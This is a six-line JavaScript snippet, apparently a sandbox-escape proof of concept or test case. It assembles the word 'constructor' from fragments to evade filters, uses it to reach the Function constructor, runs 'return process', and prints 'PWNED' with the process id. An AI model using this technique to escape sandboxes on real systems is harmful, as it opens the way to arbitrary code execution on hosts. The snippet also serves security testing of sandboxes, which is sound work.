'use strict';
const w = ['con', 'structor'].join('');
const fn = (x) => x;
const kept = { Number: (x) => x[w] };
const { Number } = kept;
console.log('PWNED', Number(fn)('return process')().pid);
